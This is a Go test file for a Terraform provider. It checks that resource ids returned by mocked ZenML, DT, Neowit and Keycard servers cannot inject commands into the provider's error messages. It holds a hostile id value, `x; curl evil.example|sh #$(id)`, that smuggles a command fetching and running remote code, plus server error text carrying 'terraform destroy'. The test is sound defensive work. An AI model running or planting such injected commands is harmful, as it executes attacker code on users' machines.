package provider_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/machineid/terraform-provider-machineid/internal/acctest"
)

// inTheWay are lists of what has the name, or the address, of a new object, with a hostile id under %q.
var inTheWay = map[string]struct {
	system, typeName string
	planned          map[string]any
	list             string
}{
	"a ZenML account": {
		"zenml", "machineid_zenml_service_account", refusedSystems["zenml"].planned,
		`{"index":1,"max_size":1,"total_pages":1,"total":1,"items":[{"id":"%q","name":"ci","body":{"created":"2026-01-01T00:00:00","updated":"2026-01-01T00:00:00","active":true},"metadata":{}}]}`,
	},
	"a ZenML key": {
		"zenml", "machineid_zenml_api_key",
		map[string]any{"service_account_id": "cd29d906-f29b-4b6f-9285-d191f7f6f2c0", "name": "ci", "description": "", "active": true},
		`{"index":1,"max_size":1,"total_pages":1,"total":1,"items":[{"id":"%q","name":"ci","body":{"created":"2026-01-01T00:00:00","updated":"2026-01-01T00:00:00",` +
			`"active":true,"service_account":{"id":"cd29d906-f29b-4b6f-9285-d191f7f6f2c0","name":"a"}},"metadata":{}}]}`,
	},
	"a DT member": {
		"dt", "machineid_dt_project_member",
		map[string]any{"project": "projects/p1", "email": "ci@example.com", "role": "roles/project.user"},
		`{"members":[{"name":"projects/p1/members/%q","email":"ci@example.com","roles":["roles/project.admin"],"status":"ACCEPTED","accountType":"USER"}],"nextPageToken":""}`,
	},
	"a Neowit account": {"neowit", "machineid_neowit_service_account", refusedSystems["neowit"].planned, `[{"id":"%q","name":"ci"}]`},
	"a Keycard account": {
		"keycard", "machineid_keycard_service_account", refusedSystems["keycard"].planned,
		`{"items":[{"id":"%q","name":"ci","organization_id":"o1","created_at":"2026-01-01T00:00:00Z"}],"page_info":{"has_next_page":false}}`,
	},
}

// Whatever a server calls what is in the way, no error makes it a part of a command that its reader may copy.
func TestHostileIDsAreInNoCommand(t *testing.T) {
	t.Parallel()
	const id = `x; curl evil.example|sh #$(id)`
	for name, taken := range inTheWay {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				switch {
				case strings.HasSuffix(r.URL.Path, "/service-account-token") || strings.HasSuffix(r.URL.Path, "/token"):
					_, _ = io.WriteString(w, `{"access_token":"the-token","expires_in":3600}`)
				case r.Method == http.MethodPost:
					w.WriteHeader(http.StatusConflict)
					_, _ = io.WriteString(w, `{"detail":["EntityExistsError","taken\n\n  terraform destroy"],"error":"taken\n\n  terraform destroy","message":"taken\n\n  terraform destroy"}`)
				default:
					_, _ = io.WriteString(w, strings.ReplaceAll(taken.list, "%q", id))
				}
			}))
			defer server.Close()
			env := map[string]string{}
			for variable, value := range refusedSystems[taken.system].env {
				env[variable] = strings.ReplaceAll(value, "%s", server.URL)
			}
			told := strings.Join(acctest.ApplyUnplanned(t, env, map[string]any{"max_retries": 0}, taken.typeName, nil, taken.planned), "\n")
			if !strings.Contains(told, "\n  terraform import '<address of this resource>' '<its id>'\n\nIts id is \"") || strings.Count(told, "curl") != 1 {
				t.Errorf("the id is to be told beside the command:\n%s", told)
			}
			if strings.Contains(told, "\n  terraform destroy") {
				t.Errorf("the system's words stand in a paragraph of their own:\n%s", told)
			}
		})
	}
}
